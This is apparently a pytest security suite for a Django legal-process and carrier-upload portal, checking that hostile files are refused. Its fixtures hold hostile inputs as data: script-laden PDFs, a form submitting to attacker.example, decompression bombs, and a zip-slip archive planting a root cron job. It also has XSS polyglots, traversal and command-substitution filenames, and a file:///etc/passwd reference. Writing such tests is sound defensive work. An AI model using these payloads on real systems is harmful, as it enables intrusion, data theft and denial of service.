"""Hostile uploads at every door that takes a file: scripts, bombs, polyglots, two gigabytes, names that climb out."""

import bz2
import gzip
import io
import zipfile
import zlib
from collections.abc import MutableMapping
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from headwater.api import bodies
from headwater.errors import HeadwaterError
from headwater.intake import vcon
from headwater.intake.recordings import Recordings
from headwater.legal.documents import inspect, safe_filename
from headwater.legal.models import LegalProcess, ProcessDocument
from headwater.uploads.models import Upload
from tests.conftest import Browser
from tests.evidence.scenery import PDF, Scene


def stream(name: str, octets: bytes, *, kind: bytes = b"") -> bytes:
    return b"9 0 obj << %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream endobj\n" % (
        kind, len(octets), octets,
    )  # fmt: skip


def with_object(octets: bytes) -> bytes:
    head, _, rest = PDF.partition(b"\n")
    return head + b"\n" + octets + rest


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("../../../../etc/cron.d/hw", "* * * * * root true\n")
    return out.getvalue()


ACTIONS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
BOMB = zlib.compress(b"\0" * (300 << 20), 1)
HOSTILE_PDFS = {
    "a script": with_object(b"9 0 obj " + ACTIONS + b" endobj"),
    "a script whose name is spelled in hex": with_object(b"9 0 obj << /S /#4aavaScript /#4A#53 (x) >> endobj"),
    "a script in a compressed object stream": with_object(
        stream("o", zlib.compress(b"1 0 " + ACTIONS), kind=b"/Type /ObjStm /N 1 /First 4")
    ),
    "a program that is started": with_object(b"9 0 obj << /S /Launch /F (cmd.exe) >> endobj"),
    "a file inside": with_object(b"9 0 obj << /Type /EmbeddedFile >> endobj"),
    "a form that sends": with_object(b"9 0 obj << /S /SubmitForm /F (http://attacker.example) >> endobj"),
    "an XFA form": with_object(b"9 0 obj << /XFA 1 0 R >> endobj"),
    "encrypted": with_object(b"9 0 obj << /Encrypt 1 0 R >> endobj"),
    "a bomb": with_object(stream("b", BOMB)),
    "an archive behind a PDF": PDF + archive(),
    "a PDF behind an archive": archive() + PDF,
    "a PDF behind HTML": b"<html><script>alert(1)</script></html>" + PDF,
    "a PDF behind a GIF": b"GIF89a/*" + PDF,
    "HTML": b"<html><script>alert(1)</script></html>",
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "a program": b"\x7fELF" + b"\0" * 100,
    "nothing": b"",
    "half": PDF[: len(PDF) // 2],
}
NAMES = ["../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "a\0.pdf", "a\r\nSet-Cookie: x=1.pdf",
         "CON.pdf", ".htaccess", "~root", "a" * 5_000 + ".pdf", "\u202efdp.exe", "$(reboot).pdf", "`id`.pdf",
         "%2e%2e%2f", "....//....//x", "file.pdf.php", "\u2024\u2024/x", "nul", ""]  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE_PDFS)
def test_a_document_that_does_something_is_refused_with_its_reason(what: str):
    with pytest.raises(HeadwaterError) as refused:
        inspect("subpoena.pdf", HOSTILE_PDFS[what])
    assert str(refused.value)


@pytest.mark.django_db
@pytest.mark.parametrize("what", ["a script", "an archive behind a PDF", "a PDF behind HTML", "a bomb"])
def test_the_portal_keeps_nothing_of_it(scene: Scene, agency_client: Browser, what: str, home: Path):
    document = SimpleUploadedFile("subpoena.pdf", HOSTILE_PDFS[what], content_type="application/pdf")
    before = sorted(path for path in home.rglob("*") if "calls" not in path.parts)
    answer = agency_client.post(f"/alerts/{scene.alert_id}/serve/", {"document": document})
    assert answer.status_code in {200, 422}
    assert not ProcessDocument.objects.exists()
    assert not LegalProcess.objects.exists()
    assert sorted(path for path in home.rglob("*") if "calls" not in path.parts) == before


@pytest.mark.parametrize("name", NAMES)
def test_a_name_becomes_a_plain_one(name: str):
    kept = safe_filename(name)
    assert kept.endswith(".pdf")
    assert not kept.startswith(".")
    assert not set(kept) & set("/\\\0\r\n\"'<>|:*?$`%;&~\u202e")
    assert ".." not in kept.removesuffix(".pdf") or "/" not in kept
    assert len(kept.encode()) <= 130


@pytest.mark.django_db
@pytest.mark.parametrize("name", NAMES)
def test_a_carriers_file_lies_where_we_put_it_whatever_it_is_called(provider_client: Browser, home: Path, name: str):
    before = set(home.rglob("*"))
    file = SimpleUploadedFile("x", b"start,calling,called\n2026-11-24T10:00:00Z,2025550123,3135550101\n")
    file.name = name or "x"
    answer = provider_client.post("/uploads/new", {"file": file})
    assert answer.status_code in {302, 422}
    for path in set(home.rglob("*")) - before:
        relative = path.relative_to(home)
        assert ".." not in relative.parts
        assert not set(str(relative)) & set("$`%\0\r\n ~\u202e"), relative
    for row in Upload.objects.all():
        shown = provider_client.get(f"/uploads/{row.id}/")
        assert shown.status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize(("pack", "megabytes"), [(gzip.compress, 128), (bz2.compress, 4)])
def test_a_bomb_at_the_carriers_door_is_refused_before_it_fills_anything(
    provider_client: Browser, home: Path, pack: Any, megabytes: int
):
    row = b"2026-11-24T10:00:00Z,2025550123,3135550101\n"
    bomb = pack(b"start,calling,called\n" + row * ((megabytes << 20) // len(row)))
    assert len(bomb) < 1_000_000
    answer = provider_client.post("/uploads/new", {"file": SimpleUploadedFile("cdr.csv.gz", bomb)})
    assert answer.status_code in {302, 422}
    kept = sum(path.stat().st_size for path in (home / "uploads").rglob("*") if path.is_file())
    assert kept < 4_000_000, "what was kept is what came, not what it expands to"
    for upload in Upload.objects.all():
        assert provider_client.get(f"/uploads/{upload.id}/").status_code == 200


async def read(headers: dict[bytes, bytes], parts: list[bytes], limit: int) -> int:
    """Return how many octets the body reader gave out."""
    waiting = list(parts)

    async def receive() -> MutableMapping[str, Any]:
        return {"type": "http.request", "body": waiting.pop(0), "more_body": bool(waiting)}

    scope = {"type": "http", "headers": list(headers.items())}
    return sum([len(piece) async for piece in bodies.octets(scope, receive, limit=limit, within_s=30)])


@pytest.mark.parametrize(
    ("headers", "parts"),
    [
        ({b"content-length": b"2147483648"}, [b""]),
        ({b"content-length": b"9" * 400}, [b""]),
        ({b"content-length": b"-1"}, [b""]),
        ({}, [b"x" * (1 << 20)] * 80),
        ({b"content-encoding": b"gzip"}, [gzip.compress(b"\0" * (256 << 20))]),
        ({b"content-encoding": b"gzip"}, [gzip.compress(b"\0" * (60 << 20))] * 3),
    ],
    ids=["2 GB announced", "a length without end", "a negative length", "80 MB unannounced", "a bomb", "three members"],
)
def test_two_gigabytes_and_bombs_are_refused_within_their_bound(headers: dict[bytes, bytes], parts: list[bytes]):
    import asyncio

    with pytest.raises(HeadwaterError):
        asyncio.run(read(headers, parts, 64 << 20))


@pytest.mark.parametrize("octets", [
    b"", b"[]", b"{" * 100_000, b'{"vcon":"0.4.0","uuid":"x","dialog":[' + b"{}," * 10_000 + b"{}]}",
    b'{"vcon":"0.4.0","parties":[{"tel":"javascript:alert(1)"}],"dialog":[{"type":"recording","url":"file:///etc/passwd"}]}',
    archive(), b"\xff\xfe" * 50,
], ids=["empty", "a list", "depth", "many", "a local file", "an archive", "no text"])  # fmt: skip
def test_a_conversation_file_that_is_none_is_refused_and_loads_nothing(octets: bytes):
    from datetime import UTC, datetime

    try:
        found = vcon.read(octets, now=datetime(2026, 11, 24, tzinfo=UTC))
    except (HeadwaterError, ValueError):
        return
    assert all(not dialog.body for dialog in found.dialogs)


def test_a_recording_is_asked_for_by_its_hash_and_by_nothing_else(tmp_path: Path):
    (tmp_path / "secret").write_text("secret")
    kept = Recordings(tmp_path)
    for name in ("../secret", "/etc/passwd", "..", "", "a" * 64 + "/../secret", "A" * 64, "\0" * 64):
        with pytest.raises(HeadwaterError):
            kept.get(name)
